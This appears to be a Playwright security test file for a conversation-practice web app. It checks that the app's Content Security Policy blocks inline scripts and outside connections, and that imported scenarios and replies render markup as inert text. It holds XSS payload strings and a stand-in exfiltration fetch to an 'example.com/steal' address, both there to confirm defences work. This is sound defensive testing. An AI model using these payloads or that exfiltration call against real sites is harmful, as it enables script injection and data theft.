import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';

const PAYLOAD = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> javascript:window.__pwned=3`;

/** Collects every Content Security Policy violation the page reports. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    (window as unknown as { __violations: string[] }).__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { __violations: string[] }).__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the production page runs under a Content Security Policy: the practice loop and the grader worker work, nothing is blocked', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await page.goto('/practice/networking-industry-event');
  const policy = await page.evaluate(() =>
    [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')),
  );
  expect(policy.join(' ')).toContain("script-src 'self'");
  expect(policy.join(' ')).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
  // With the on-device grader, the page may connect to its own origin only.
  expect(policy).toContain("connect-src 'self'");
  await page.getByRole('button', { name: 'Start the conversation' }).click();
  await page.getByLabel('Your reply').fill('I was! What did you want to show about the pilot?');
  await page.getByRole('button', { name: 'Send reply' }).click();
  await expect(page.getByTestId('feedback')).toBeVisible();
  expect(await violations()).toEqual([]);

  // A script that got in could not send anything elsewhere.
  const sent = await page.evaluate(() =>
    fetch('https://example.com/steal', { method: 'POST', body: 'reply' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(sent).toBe('blocked');
  expect((await violations()).join()).toContain('connect-src');
});

test('markup in a reply, a persona line or an imported scenario is shown as text and runs nothing', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const hostile = readFileSync('scenarios/networking-industry-event.yaml', 'utf8')
    .replace('id: networking-industry-event', 'id: hostile-chat')
    .replace('title: Meeting someone new at an industry event', `title: Hostile chat ${PAYLOAD.replace(/"/g, "'")}`)
    .replace('Oh, hi.', 'Oh, hi <img src=x onerror=window.__pwned=4>.');
  await page.goto('/scenarios');
  await page
    .getByLabel('Import a scenario file')
    .setInputFiles({ name: 'hostile.yaml', mimeType: 'text/yaml', buffer: Buffer.from(hostile) });
  await expect(page.getByText(/Imported “Hostile chat/)).toBeVisible();
  await page.goto('/practice/hostile-chat');
  await page.getByRole('button', { name: 'Start the conversation' }).click();
  await page.getByLabel('Your reply').fill(PAYLOAD);
  await page.getByRole('button', { name: 'Send reply' }).click();
  await expect(page.getByTestId('feedback')).toBeVisible();
  await expect(page.getByTestId('highlighted-reply')).toContainText('<img src=x onerror=');
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.locator('script:not([src])').count()).toBe(0);
  expect(await violations()).toEqual([]);
});
